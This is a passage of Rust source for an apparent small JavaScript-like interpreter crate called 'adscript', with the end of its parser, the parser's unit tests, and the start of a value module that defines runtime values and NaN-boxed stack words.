    fn advance(&mut self) -> Tok {
        let t = self.toks[self.pos].tok.clone();
        if self.pos + 1 < self.toks.len() {
            self.pos += 1;
        }
        t
    }

    fn err<T>(&self, msg: &str) -> Result<T, ScriptError> {
        Err(ScriptError::Parse(format!(
            "{msg}, found {} at byte {}",
            self.peek(),
            self.toks[self.pos].offset
        )))
    }

    fn eat_punct(&mut self, p: Punct) -> bool {
        if *self.peek() == Tok::Punct(p) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn expect_punct(&mut self, p: Punct) -> Result<(), ScriptError> {
        if self.eat_punct(p) {
            Ok(())
        } else {
            self.err(&format!("expected `{p:?}`"))
        }
    }

    fn expect_ident(&mut self) -> Result<Name, ScriptError> {
        match self.peek().clone() {
            Tok::Ident(name) => {
                self.advance();
                Ok(self.intern(&name))
            }
            _ => self.err("expected identifier"),
        }
    }

    /// Optional semicolon (we are lenient: a missing `;` before `}` or EOF is
    /// accepted, approximating automatic semicolon insertion).
    fn semi(&mut self) {
        let _ = self.eat_punct(Punct::Semi);
    }

    // ----- statements ------------------------------------------------------

    fn statement(&mut self) -> Result<Stmt, ScriptError> {
        match self.peek().clone() {
            Tok::Punct(Punct::Semi) => {
                self.advance();
                Ok(Stmt::Empty)
            }
            Tok::Punct(Punct::LBrace) => {
                self.advance();
                let body = self.block_body()?;
                Ok(Stmt::Block(body))
            }
            Tok::Kw(Kw::Var) => {
                self.advance();
                let stmt = self.var_declarators()?;
                self.semi();
                Ok(stmt)
            }
            Tok::Kw(Kw::If) => self.if_stmt(),
            Tok::Kw(Kw::While) => self.while_stmt(),
            Tok::Kw(Kw::Do) => self.do_while_stmt(),
            Tok::Kw(Kw::For) => self.for_stmt(),
            Tok::Kw(Kw::Switch) => self.switch_stmt(),
            Tok::Kw(Kw::Function) => {
                self.advance();
                let def = self.function_rest(true)?;
                Ok(Stmt::FnDecl(Arc::new(def)))
            }
            Tok::Kw(Kw::Return) => {
                self.advance();
                let value = if matches!(
                    self.peek(),
                    Tok::Punct(Punct::Semi) | Tok::Punct(Punct::RBrace) | Tok::Eof
                ) {
                    None
                } else {
                    Some(self.expression()?)
                };
                self.semi();
                Ok(Stmt::Return(value))
            }
            Tok::Kw(Kw::Break) => {
                self.advance();
                self.semi();
                Ok(Stmt::Break)
            }
            Tok::Kw(Kw::Continue) => {
                self.advance();
                self.semi();
                Ok(Stmt::Continue)
            }
            Tok::Kw(Kw::Throw) => {
                self.advance();
                let e = self.expression()?;
                self.semi();
                Ok(Stmt::Throw(e))
            }
            Tok::Kw(Kw::Try) => self.try_stmt(),
            _ => {
                let e = self.expression()?;
                self.semi();
                Ok(Stmt::Expr(e))
            }
        }
    }

    fn block_body(&mut self) -> Result<Vec<Stmt>, ScriptError> {
        let mut body = Vec::new();
        while !self.eat_punct(Punct::RBrace) {
            if self.at_eof() {
                return self.err("expected `}`");
            }
            body.push(self.statement()?);
        }
        Ok(body)
    }

    fn var_declarators(&mut self) -> Result<Stmt, ScriptError> {
        let mut decls = Vec::new();
        loop {
            let name = self.expect_ident()?;
            let init = if self.eat_punct(Punct::Assign) {
                Some(self.assignment()?)
            } else {
                None
            };
            decls.push((name, init));
            if !self.eat_punct(Punct::Comma) {
                break;
            }
        }
        Ok(Stmt::Var(decls))
    }

    fn if_stmt(&mut self) -> Result<Stmt, ScriptError> {
        self.advance(); // if
        self.expect_punct(Punct::LParen)?;
        let cond = self.expression()?;
        self.expect_punct(Punct::RParen)?;
        let then = Box::new(self.statement()?);
        let alt = if *self.peek() == Tok::Kw(Kw::Else) {
            self.advance();
            Some(Box::new(self.statement()?))
        } else {
            None
        };
        Ok(Stmt::If { cond, then, alt })
    }

    fn while_stmt(&mut self) -> Result<Stmt, ScriptError> {
        self.advance(); // while
        self.expect_punct(Punct::LParen)?;
        let cond = self.expression()?;
        self.expect_punct(Punct::RParen)?;
        let body = Box::new(self.statement()?);
        Ok(Stmt::While { cond, body })
    }

    fn do_while_stmt(&mut self) -> Result<Stmt, ScriptError> {
        self.advance(); // do
        let body = Box::new(self.statement()?);
        if *self.peek() != Tok::Kw(Kw::While) {
            return self.err("expected `while` after do-body");
        }
        self.advance();
        self.expect_punct(Punct::LParen)?;
        let cond = self.expression()?;
        self.expect_punct(Punct::RParen)?;
        self.semi();
        Ok(Stmt::DoWhile { body, cond })
    }

    fn switch_stmt(&mut self) -> Result<Stmt, ScriptError> {
        self.advance(); // switch
        self.expect_punct(Punct::LParen)?;
        let disc = self.expression()?;
        self.expect_punct(Punct::RParen)?;
        self.expect_punct(Punct::LBrace)?;
        let mut cases: Vec<(Option<Expr>, Vec<Stmt>)> = Vec::new();
        let mut seen_default = false;
        while !self.eat_punct(Punct::RBrace) {
            match self.peek().clone() {
                Tok::Kw(Kw::Case) => {
                    self.advance();
                    let test = self.expression()?;
                    self.expect_punct(Punct::Colon)?;
                    cases.push((Some(test), Vec::new()));
                }
                Tok::Kw(Kw::Default) => {
                    if seen_default {
                        return self.err("duplicate default clause");
                    }
                    seen_default = true;
                    self.advance();
                    self.expect_punct(Punct::Colon)?;
                    cases.push((None, Vec::new()));
                }
                Tok::Eof => return self.err("expected `}` to close switch"),
                _ => {
                    let stmt = self.statement()?;
                    match cases.last_mut() {
                        Some((_, body)) => body.push(stmt),
                        None => return self.err("statement before first case clause"),
                    }
                }
            }
        }
        Ok(Stmt::Switch { disc, cases })
    }

    fn for_stmt(&mut self) -> Result<Stmt, ScriptError> {
        self.advance(); // for
        self.expect_punct(Punct::LParen)?;
        // `for (var k in obj)` / `for (k in obj)` forms.
        if *self.peek() == Tok::Kw(Kw::Var) {
            if let (Tok::Ident(name), Tok::Kw(Kw::In)) =
                (self.peek2().clone(), self.peek3().clone())
            {
                self.advance(); // var
                self.advance(); // name
                self.advance(); // in
                let name = self.intern(&name);
                let object = self.expression()?;
                self.expect_punct(Punct::RParen)?;
                let body = Box::new(self.statement()?);
                return Ok(Stmt::ForIn {
                    decl: true,
                    name,
                    object,
                    body,
                });
            }
        } else if let (Tok::Ident(name), Tok::Kw(Kw::In)) =
            (self.peek().clone(), self.peek2().clone())
        {
            self.advance(); // name
            self.advance(); // in
            let name = self.intern(&name);
            let object = self.expression()?;
            self.expect_punct(Punct::RParen)?;
            let body = Box::new(self.statement()?);
            return Ok(Stmt::ForIn {
                decl: false,
                name,
                object,
                body,
            });
        }
        let init = if self.eat_punct(Punct::Semi) {
            None
        } else if *self.peek() == Tok::Kw(Kw::Var) {
            self.advance();
            let stmt = self.var_declarators()?;
            self.expect_punct(Punct::Semi)?;
            Some(Box::new(stmt))
        } else {
            let e = self.expression()?;
            self.expect_punct(Punct::Semi)?;
            Some(Box::new(Stmt::Expr(e)))
        };
        let cond = if self.eat_punct(Punct::Semi) {
            None
        } else {
            let e = self.expression()?;
            self.expect_punct(Punct::Semi)?;
            Some(e)
        };
        let update = if *self.peek() == Tok::Punct(Punct::RParen) {
            None
        } else {
            Some(self.expression()?)
        };
        self.expect_punct(Punct::RParen)?;
        let body = Box::new(self.statement()?);
        Ok(Stmt::For {
            init,
            cond,
            update,
            body,
        })
    }

    fn try_stmt(&mut self) -> Result<Stmt, ScriptError> {
        self.advance(); // try
        self.expect_punct(Punct::LBrace)?;
        let block = self.block_body()?;
        let catch = if *self.peek() == Tok::Kw(Kw::Catch) {
            self.advance();
            self.expect_punct(Punct::LParen)?;
            let name = self.expect_ident()?;
            self.expect_punct(Punct::RParen)?;
            self.expect_punct(Punct::LBrace)?;
            Some((name, self.block_body()?))
        } else {
            None
        };
        let finally = if *self.peek() == Tok::Kw(Kw::Finally) {
            self.advance();
            self.expect_punct(Punct::LBrace)?;
            Some(self.block_body()?)
        } else {
            None
        };
        if catch.is_none() && finally.is_none() {
            return self.err("try requires catch or finally");
        }
        Ok(Stmt::Try {
            block,
            catch,
            finally,
        })
    }

    fn function_rest(&mut self, need_name: bool) -> Result<FnDef, ScriptError> {
        let name = match self.peek().clone() {
            Tok::Ident(n) => {
                self.advance();
                Some(self.intern(&n))
            }
            _ if need_name => return self.err("expected function name"),
            _ => None,
        };
        self.expect_punct(Punct::LParen)?;
        let mut params = Vec::new();
        if !self.eat_punct(Punct::RParen) {
            loop {
                params.push(self.expect_ident()?);
                if self.eat_punct(Punct::RParen) {
                    break;
                }
                self.expect_punct(Punct::Comma)?;
            }
        }
        self.expect_punct(Punct::LBrace)?;
        let body = self.block_body()?;
        // The scope layout is filled in by the resolution pass.
        Ok(FnDef {
            name,
            params,
            body: Arc::new(body),
            scope: Arc::new(ScopeInfo::default()),
            code: std::sync::OnceLock::new(),
        })
    }

    // ----- expressions -----------------------------------------------------

    /// Full expression including the comma operator.
    fn expression(&mut self) -> Result<Expr, ScriptError> {
        let mut e = self.assignment()?;
        while self.eat_punct(Punct::Comma) {
            let rhs = self.assignment()?;
            e = Expr::Seq(Box::new(e), Box::new(rhs));
        }
        Ok(e)
    }

    fn assignment(&mut self) -> Result<Expr, ScriptError> {
        let lhs = self.conditional()?;
        let op = match self.peek() {
            Tok::Punct(Punct::Assign) => Some(AssignOp::Assign),
            Tok::Punct(Punct::PlusAssign) => Some(AssignOp::Add),
            Tok::Punct(Punct::MinusAssign) => Some(AssignOp::Sub),
            Tok::Punct(Punct::StarAssign) => Some(AssignOp::Mul),
            Tok::Punct(Punct::SlashAssign) => Some(AssignOp::Div),
            Tok::Punct(Punct::PercentAssign) => Some(AssignOp::Mod),
            _ => None,
        };
        if let Some(op) = op {
            if !is_lvalue(&lhs) {
                return self.err("invalid assignment target");
            }
            self.advance();
            let value = self.assignment()?;
            return Ok(Expr::Assign {
                target: Box::new(lhs),
                op,
                value: Box::new(value),
            });
        }
        Ok(lhs)
    }

    fn conditional(&mut self) -> Result<Expr, ScriptError> {
        let cond = self.binary(0)?;
        if self.eat_punct(Punct::Question) {
            let then = self.assignment()?;
            self.expect_punct(Punct::Colon)?;
            let alt = self.assignment()?;
            return Ok(Expr::Cond {
                cond: Box::new(cond),
                then: Box::new(then),
                alt: Box::new(alt),
            });
        }
        Ok(cond)
    }

    /// Precedence climbing over binary operators.
    fn binary(&mut self, min_prec: u8) -> Result<Expr, ScriptError> {
        let mut lhs = self.unary()?;
        loop {
            let (prec, kind) = match self.peek() {
                Tok::Punct(Punct::OrOr) => (1, BinKind::Or),
                Tok::Punct(Punct::AndAnd) => (2, BinKind::And),
                Tok::Punct(Punct::BitOr) => (3, BinKind::Op(BinOp::BitOr)),
                Tok::Punct(Punct::BitXor) => (4, BinKind::Op(BinOp::BitXor)),
                Tok::Punct(Punct::BitAnd) => (5, BinKind::Op(BinOp::BitAnd)),
                Tok::Punct(Punct::EqEq) => (6, BinKind::Op(BinOp::EqLoose)),
                Tok::Punct(Punct::NotEq) => (6, BinKind::Op(BinOp::NeLoose)),
                Tok::Punct(Punct::EqEqEq) => (6, BinKind::Op(BinOp::EqStrict)),
                Tok::Punct(Punct::NotEqEq) => (6, BinKind::Op(BinOp::NeStrict)),
                Tok::Punct(Punct::Lt) => (7, BinKind::Op(BinOp::Lt)),
                Tok::Punct(Punct::Gt) => (7, BinKind::Op(BinOp::Gt)),
                Tok::Punct(Punct::Le) => (7, BinKind::Op(BinOp::Le)),
                Tok::Punct(Punct::Ge) => (7, BinKind::Op(BinOp::Ge)),
                Tok::Kw(Kw::Instanceof) => (7, BinKind::Op(BinOp::Instanceof)),
                Tok::Kw(Kw::In) => (7, BinKind::Op(BinOp::In)),
                Tok::Punct(Punct::Shl) => (8, BinKind::Op(BinOp::Shl)),
                Tok::Punct(Punct::Shr) => (8, BinKind::Op(BinOp::Shr)),
                Tok::Punct(Punct::UShr) => (8, BinKind::Op(BinOp::UShr)),
                Tok::Punct(Punct::Plus) => (9, BinKind::Op(BinOp::Add)),
                Tok::Punct(Punct::Minus) => (9, BinKind::Op(BinOp::Sub)),
                Tok::Punct(Punct::Star) => (10, BinKind::Op(BinOp::Mul)),
                Tok::Punct(Punct::Slash) => (10, BinKind::Op(BinOp::Div)),
                Tok::Punct(Punct::Percent) => (10, BinKind::Op(BinOp::Mod)),
                _ => break,
            };
            if prec < min_prec {
                break;
            }
            self.advance();
            let rhs = self.binary(prec + 1)?;
            lhs = match kind {
                BinKind::Or => Expr::Or(Box::new(lhs), Box::new(rhs)),
                BinKind::And => Expr::And(Box::new(lhs), Box::new(rhs)),
                BinKind::Op(op) => Expr::Bin {
                    op,
                    lhs: Box::new(lhs),
                    rhs: Box::new(rhs),
                },
            };
        }
        Ok(lhs)
    }

    fn unary(&mut self) -> Result<Expr, ScriptError> {
        let op = match self.peek() {
            Tok::Punct(Punct::Minus) => Some(UnOp::Neg),
            Tok::Punct(Punct::Plus) => Some(UnOp::Pos),
            Tok::Punct(Punct::Not) => Some(UnOp::Not),
            Tok::Punct(Punct::Tilde) => Some(UnOp::BitNot),
            Tok::Kw(Kw::Typeof) => Some(UnOp::Typeof),
            Tok::Kw(Kw::Void) => Some(UnOp::Void),
            Tok::Kw(Kw::Delete) => Some(UnOp::Delete),
            _ => None,
        };
        if let Some(op) = op {
            self.advance();
            let operand = self.unary()?;
            return Ok(Expr::Un {
                op,
                operand: Box::new(operand),
            });
        }
        if self.eat_punct(Punct::PlusPlus) {
            let target = self.unary()?;
            if !is_lvalue(&target) {
                return self.err("invalid ++ target");
            }
            return Ok(Expr::IncDec {
                target: Box::new(target),
                delta: 1,
                prefix: true,
            });
        }
        if self.eat_punct(Punct::MinusMinus) {
            let target = self.unary()?;
            if !is_lvalue(&target) {
                return self.err("invalid -- target");
            }
            return Ok(Expr::IncDec {
                target: Box::new(target),
                delta: -1,
                prefix: true,
            });
        }
        self.postfix()
    }

    fn postfix(&mut self) -> Result<Expr, ScriptError> {
        let mut e = self.call_member()?;
        loop {
            if *self.peek() == Tok::Punct(Punct::PlusPlus) && is_lvalue(&e) {
                self.advance();
                e = Expr::IncDec {
                    target: Box::new(e),
                    delta: 1,
                    prefix: false,
                };
            } else if *self.peek() == Tok::Punct(Punct::MinusMinus) && is_lvalue(&e) {
                self.advance();
                e = Expr::IncDec {
                    target: Box::new(e),
                    delta: -1,
                    prefix: false,
                };
            } else {
                break;
            }
        }
        Ok(e)
    }

    fn call_member(&mut self) -> Result<Expr, ScriptError> {
        let mut e = if *self.peek() == Tok::Kw(Kw::New) {
            self.advance();
            let callee = self.call_member_no_call()?;
            let args = if *self.peek() == Tok::Punct(Punct::LParen) {
                self.arguments()?
            } else {
                Vec::new()
            };
            Expr::New {
                callee: Box::new(callee),
                args,
            }
        } else {
            self.primary()?
        };
        loop {
            match self.peek() {
                Tok::Punct(Punct::Dot) => {
                    self.advance();
                    let prop = self.property_name()?;
                    e = Expr::Member {
                        object: Box::new(e),
                        prop,
                    };
                }
                Tok::Punct(Punct::LBracket) => {
                    self.advance();
                    let index = self.expression()?;
                    self.expect_punct(Punct::RBracket)?;
                    e = Expr::Index {
                        object: Box::new(e),
                        index: Box::new(index),
                    };
                }
                Tok::Punct(Punct::LParen) => {
                    let args = self.arguments()?;
                    e = Expr::Call {
                        callee: Box::new(e),
                        args,
                    };
                }
                _ => break,
            }
        }
        Ok(e)
    }

    /// Like `call_member` but stops before a call — for `new X.Y(...)`.
    fn call_member_no_call(&mut self) -> Result<Expr, ScriptError> {
        let mut e = self.primary()?;
        loop {
            match self.peek() {
                Tok::Punct(Punct::Dot) => {
                    self.advance();
                    let prop = self.property_name()?;
                    e = Expr::Member {
                        object: Box::new(e),
                        prop,
                    };
                }
                Tok::Punct(Punct::LBracket) => {
                    self.advance();
                    let index = self.expression()?;
                    self.expect_punct(Punct::RBracket)?;
                    e = Expr::Index {
                        object: Box::new(e),
                        index: Box::new(index),
                    };
                }
                _ => break,
            }
        }
        Ok(e)
    }

    /// Property names after `.` may be identifiers or keywords (`a.catch`).
    fn property_name(&mut self) -> Result<Name, ScriptError> {
        match self.peek().clone() {
            Tok::Ident(n) => {
                self.advance();
                Ok(self.intern(&n))
            }
            Tok::Kw(k) => {
                self.advance();
                Ok(self.intern(&format!("{k:?}").to_ascii_lowercase()))
            }
            _ => self.err("expected property name"),
        }
    }

    fn arguments(&mut self) -> Result<Vec<Expr>, ScriptError> {
        self.expect_punct(Punct::LParen)?;
        let mut args = Vec::new();
        if self.eat_punct(Punct::RParen) {
            return Ok(args);
        }
        loop {
            args.push(self.assignment()?);
            if self.eat_punct(Punct::RParen) {
                break;
            }
            self.expect_punct(Punct::Comma)?;
        }
        Ok(args)
    }

    fn primary(&mut self) -> Result<Expr, ScriptError> {
        match self.peek().clone() {
            Tok::Num(n) => {
                self.advance();
                Ok(Expr::Num(n))
            }
            Tok::Str(s) => {
                self.advance();
                Ok(Expr::Str(s))
            }
            Tok::Kw(Kw::True) => {
                self.advance();
                Ok(Expr::Bool(true))
            }
            Tok::Kw(Kw::False) => {
                self.advance();
                Ok(Expr::Bool(false))
            }
            Tok::Kw(Kw::Null) => {
                self.advance();
                Ok(Expr::Null)
            }
            Tok::Kw(Kw::Undefined) => {
                self.advance();
                Ok(Expr::Undefined)
            }
            Tok::Kw(Kw::This) => {
                self.advance();
                Ok(Expr::This)
            }
            Tok::Kw(Kw::Function) => {
                self.advance();
                let def = self.function_rest(false)?;
                Ok(Expr::Function(Arc::new(def)))
            }
            Tok::Ident(name) => {
                self.advance();
                let name = self.intern(&name);
                Ok(Expr::Ident(name))
            }
            Tok::Punct(Punct::LParen) => {
                self.advance();
                let e = self.expression()?;
                self.expect_punct(Punct::RParen)?;
                Ok(e)
            }
            Tok::Punct(Punct::LBracket) => {
                self.advance();
                let mut items = Vec::new();
                if !self.eat_punct(Punct::RBracket) {
                    loop {
                        items.push(self.assignment()?);
                        if self.eat_punct(Punct::RBracket) {
                            break;
                        }
                        self.expect_punct(Punct::Comma)?;
                        // Allow trailing comma.
                        if self.eat_punct(Punct::RBracket) {
                            break;
                        }
                    }
                }
                Ok(Expr::Array(items))
            }
            Tok::Punct(Punct::LBrace) => {
                self.advance();
                let mut props = Vec::new();
                if !self.eat_punct(Punct::RBrace) {
                    loop {
                        let key = match self.peek().clone() {
                            Tok::Ident(n) => {
                                self.advance();
                                self.intern(&n)
                            }
                            Tok::Str(s) => {
                                self.advance();
                                self.intern(&s)
                            }
                            Tok::Num(n) => {
                                self.advance();
                                self.intern(&crate::value::number_to_string(n))
                            }
                            Tok::Kw(k) => {
                                self.advance();
                                self.intern(&format!("{k:?}").to_ascii_lowercase())
                            }
                            _ => return self.err("expected object key"),
                        };
                        self.expect_punct(Punct::Colon)?;
                        let value = self.assignment()?;
                        props.push((key, value));
                        if self.eat_punct(Punct::RBrace) {
                            break;
                        }
                        self.expect_punct(Punct::Comma)?;
                        if self.eat_punct(Punct::RBrace) {
                            break;
                        }
                    }
                }
                Ok(Expr::Object(props))
            }
            _ => self.err("expected expression"),
        }
    }
}

enum BinKind {
    Or,
    And,
    Op(BinOp),
}

fn is_lvalue(e: &Expr) -> bool {
    matches!(e, Expr::Ident(_) | Expr::Member { .. } | Expr::Index { .. })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(src: &str) -> Program {
        parse_program(src).unwrap()
    }

    #[test]
    fn var_declaration() {
        let p = parse("var a = 1, b;");
        assert_eq!(p.body.len(), 1);
        match &p.body[0] {
            Stmt::Var(decls) => {
                assert_eq!(decls.len(), 2);
                assert_eq!(decls[0].0.as_ref(), "a");
                assert!(decls[1].1.is_none());
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn precedence_mul_over_add() {
        let p = parse("x = 1 + 2 * 3;");
        match &p.body[0] {
            Stmt::Expr(Expr::Assign { value, .. }) => match value.as_ref() {
                Expr::Bin {
                    op: BinOp::Add,
                    rhs,
                    ..
                } => {
                    assert!(matches!(rhs.as_ref(), Expr::Bin { op: BinOp::Mul, .. }));
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn short_circuit_parsing() {
        let p = parse("a || b && c;");
        match &p.body[0] {
            Stmt::Expr(Expr::Or(_, rhs)) => {
                assert!(matches!(rhs.as_ref(), Expr::And(..)));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn member_call_chain() {
        let p = parse("document.getElementById('x').innerHTML = 'y';");
        assert!(matches!(&p.body[0], Stmt::Expr(Expr::Assign { .. })));
    }

    #[test]
    fn conditional_expression() {
        let p = parse("var x = a ? 1 : 2;");
        match &p.body[0] {
            Stmt::Var(d) => assert!(matches!(d[0].1, Some(Expr::Cond { .. }))),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn function_declaration_and_expression() {
        let p = parse("function f(a, b) { return a + b; } var g = function(x) { return x; };");
        assert!(matches!(
            &p.body[0],
            Stmt::FnDecl(d) if d.params.iter().map(|p| p.as_ref()).eq(["a", "b"])
        ));
        match &p.body[1] {
            Stmt::Var(d) => assert!(matches!(&d[0].1, Some(Expr::Function(f)) if f.name.is_none())),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn loops() {
        parse("while (x < 10) { x++; }");
        parse("do { x--; } while (x > 0);");
        parse("for (var i = 0; i < 10; i++) { s += i; }");
        parse("for (;;) { break; }");
    }

    #[test]
    fn try_catch_finally() {
        let p = parse("try { risky(); } catch (e) { log(e); } finally { done(); }");
        match &p.body[0] {
            Stmt::Try { catch, finally, .. } => {
                assert_eq!(catch.as_ref().unwrap().0.as_ref(), "e");
                assert!(finally.is_some());
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn try_requires_catch_or_finally() {
        assert!(parse_program("try { x(); }").is_err());
    }

    #[test]
    fn array_and_object_literals() {
        parse("var a = [1, 'two', [3]];");
        parse("var o = {x: 1, 'y': 2, 3: 'three', if: 4};");
        parse("var a = [1, 2, ];"); // trailing comma
    }

    #[test]
    fn new_expression() {
        let p = parse("var x = new Image(); var y = new Date;");
        assert!(matches!(
            &p.body[0],
            Stmt::Var(d) if matches!(&d[0].1, Some(Expr::New { args, .. }) if args.is_empty())
        ));
        assert!(matches!(&p.body[1], Stmt::Var(_)));
    }

    #[test]
    fn inc_dec_forms() {
        parse("i++; ++i; i--; --i; a.b++; a[0]--;");
        assert!(parse_program("5++;").is_err());
    }

    #[test]
    fn assignment_target_validation() {
        assert!(parse_program("1 = 2;").is_err());
        assert!(parse_program("f() = 2;").is_err());
        parse("a.b = 2; a[0] = 3; x = 4;");
    }

    #[test]
    fn keyword_property_access() {
        parse("promise.catch(handler);");
        parse("x = obj.in;");
    }

    #[test]
    fn comma_operator() {
        let p = parse("a = (b = 1, c = 2);");
        assert!(matches!(&p.body[0], Stmt::Expr(Expr::Assign { .. })));
    }

    #[test]
    fn missing_semicolons_tolerated() {
        parse("var a = 1\nvar b = 2\nf()");
    }

    #[test]
    fn typeof_and_unaries() {
        parse("if (typeof navigator != 'undefined') { x = -1; y = !z; b = ~c; }");
    }

    #[test]
    fn error_reports_position() {
        let err = parse_program("var = 5;").unwrap_err();
        match err {
            ScriptError::Parse(m) => assert!(m.contains("byte"), "{m}"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn nested_functions_and_closures() {
        parse("function outer() { var n = 0; return function() { n = n + 1; return n; }; }");
    }

    #[test]
    fn deeply_nested_expression_parses() {
        let src = format!("x = {}1{};", "(".repeat(100), ")".repeat(100));
        parse(&src);
    }
}
