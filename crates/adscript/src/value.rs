//! Runtime values and the object heap.

use std::rc::Rc;
use std::sync::Arc;

use crate::ast::FnDef;
use crate::heap::{NameMap, Sym};

/// Handle to an object in the [`Heap`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ObjId(pub(crate) usize);

/// A runtime value.
#[derive(Debug, Clone)]
pub enum Value {
    /// `undefined`
    Undefined,
    /// `null`
    Null,
    /// Boolean.
    Bool(bool),
    /// Number (always `f64`, like JS).
    Num(f64),
    /// String.
    Str(Rc<str>),
    /// Object or array (heap handle).
    Obj(ObjId),
    /// A script function: definition plus captured environment.
    Fn {
        /// The function definition (shared with the compiled AST).
        def: Arc<FnDef>,
        /// Captured scope (environment id in the interpreter).
        env: usize,
    },
    /// A host-provided native function, identified by an interned symbol
    /// (identity checks are pointer compares, see [`Sym`]).
    Native(Sym),
}

impl Value {
    /// Convenience string constructor.
    pub fn str(s: impl AsRef<str>) -> Value {
        Value::Str(Rc::from(s.as_ref()))
    }

    /// Native-function constructor: interns `name` so repeated constructions
    /// share one allocation and equality is an integer compare.
    pub fn native(name: &str) -> Value {
        Value::Native(Sym::intern(name))
    }

    /// JS truthiness.
    pub fn truthy(&self) -> bool {
        match self {
            Value::Undefined | Value::Null => false,
            Value::Bool(b) => *b,
            Value::Num(n) => *n != 0.0 && !n.is_nan(),
            Value::Str(s) => !s.is_empty(),
            Value::Obj(_) | Value::Fn { .. } | Value::Native(_) => true,
        }
    }

    /// `typeof` result.
    pub fn type_of(&self) -> &'static str {
        match self {
            Value::Undefined => "undefined",
            Value::Null => "object",
            Value::Bool(_) => "boolean",
            Value::Num(_) => "number",
            Value::Str(_) => "string",
            Value::Obj(_) => "object",
            Value::Fn { .. } | Value::Native(_) => "function",
        }
    }

    /// Numeric coercion (`ToNumber`), without object valueOf support.
    pub fn to_number(&self) -> f64 {
        match self {
            Value::Undefined => f64::NAN,
            Value::Null => 0.0,
            Value::Bool(b) => {
                if *b {
                    1.0
                } else {
                    0.0
                }
            }
            Value::Num(n) => *n,
            Value::Str(s) => {
                let t = s.trim();
                if t.is_empty() {
                    0.0
                } else if let Some(hex) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
                    u64::from_str_radix(hex, 16)
                        .map(|v| v as f64)
                        .unwrap_or(f64::NAN)
                } else {
                    t.parse::<f64>().unwrap_or(f64::NAN)
                }
            }
            Value::Obj(_) | Value::Fn { .. } | Value::Native(_) => f64::NAN,
        }
    }

    /// Strict equality (`===`).
    pub fn strict_eq(&self, other: &Value) -> bool {
        match (self, other) {
            (Value::Undefined, Value::Undefined) => true,
            (Value::Null, Value::Null) => true,
            (Value::Bool(a), Value::Bool(b)) => a == b,
            (Value::Num(a), Value::Num(b)) => a == b,
            (Value::Str(a), Value::Str(b)) => a == b,
            (Value::Obj(a), Value::Obj(b)) => a == b,
            (Value::Native(a), Value::Native(b)) => a == b,
            (Value::Fn { def: a, env: ea }, Value::Fn { def: b, env: eb }) => {
                Arc::ptr_eq(a, b) && ea == eb
            }
            _ => false,
        }
    }
}

/// The canonical quiet-NaN bit pattern [`Word::num`] folds every NaN to.
/// Hardware-produced NaNs (including x86's sign-set "indefinite") always
/// have bit 50 clear, so no real number can collide with the tag space.
const CANON_NAN: u64 = 0x7FF8_0000_0000_0000;

/// Tag-space marker: a word is a tagged value iff all of these bits are
/// set, which no non-NaN `f64` and no canonicalized NaN satisfies
/// (exponent bits 52..=62 plus mantissa bits 51 and 50).
const QNAN: u64 = 0x7FFC_0000_0000_0000;

const TAG_SHIFT: u32 = 46;
pub(crate) const TAG_UNDEF: u64 = 1;
pub(crate) const TAG_NULL: u64 = 2;
pub(crate) const TAG_FALSE: u64 = 3;
pub(crate) const TAG_TRUE: u64 = 4;
pub(crate) const TAG_OBJ: u64 = 5;
pub(crate) const TAG_CONST: u64 = 6;
pub(crate) const TAG_BOXED: u64 = 7;

/// A NaN-boxed VM stack word: the `Copy` hot-path representation of a
/// [`Value`].
///
/// Any bit pattern that is not all-QNAN-bits-set *is* the `f64` it spells,
/// so numbers (the packed-creative workload's dominant type) live inline
/// and never touch an allocator. Everything else packs a 4-bit tag plus a
/// 32-bit payload into the otherwise-unused NaN space:
///
/// * `UNDEF` / `NULL` / `FALSE` / `TRUE` — payload-free singletons;
/// * `OBJ` — payload is the heap [`ObjId`];
/// * `CONST` — payload indexes the executing chunk's constant pool
///   (constant strings never need a runtime allocation);
/// * `BOXED` — payload indexes the interpreter's side arena of full
///   [`Value`]s (strings, closures, natives), truncated back to a
///   watermark when the activation that pushed them exits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Word(u64);

impl Word {
    pub(crate) const UNDEF: Word = Word(QNAN | (TAG_UNDEF << TAG_SHIFT));
    pub(crate) const NULL: Word = Word(QNAN | (TAG_NULL << TAG_SHIFT));
    pub(crate) const FALSE: Word = Word(QNAN | (TAG_FALSE << TAG_SHIFT));
    pub(crate) const TRUE: Word = Word(QNAN | (TAG_TRUE << TAG_SHIFT));

    /// A number word. NaN is canonicalized so no payload bits of a
    /// hardware NaN can masquerade as a tag.
    #[inline(always)]
    pub(crate) fn num(n: f64) -> Word {
        if n.is_nan() {
            Word(CANON_NAN)
        } else {
            Word(n.to_bits())
        }
    }

    #[inline(always)]
    pub(crate) fn bool(b: bool) -> Word {
        if b {
            Word::TRUE
        } else {
            Word::FALSE
        }
    }

    #[inline(always)]
    fn tagged(tag: u64, payload: u32) -> Word {
        Word(QNAN | (tag << TAG_SHIFT) | u64::from(payload))
    }

    /// An object-handle word. Heap ids stay far below `u32::MAX` (growth is
    /// bounded by the step budget), so the narrowing is checked only in
    /// debug builds.
    #[inline(always)]
    pub(crate) fn obj(id: ObjId) -> Word {
        debug_assert!(id.0 <= u32::MAX as usize, "heap id exceeds word payload");
        Word::tagged(TAG_OBJ, id.0 as u32)
    }

    /// A chunk-constant word (index into the constant pool).
    #[inline(always)]
    pub(crate) fn cnst(idx: u32) -> Word {
        Word::tagged(TAG_CONST, idx)
    }

    /// A boxed-arena word (index into the interpreter's side arena).
    #[inline(always)]
    pub(crate) fn boxed(idx: u32) -> Word {
        Word::tagged(TAG_BOXED, idx)
    }

    /// Whether this word spells an inline `f64`.
    #[inline(always)]
    pub(crate) fn is_num(self) -> bool {
        self.0 & QNAN != QNAN
    }

    /// The inline number (only meaningful when [`Word::is_num`]).
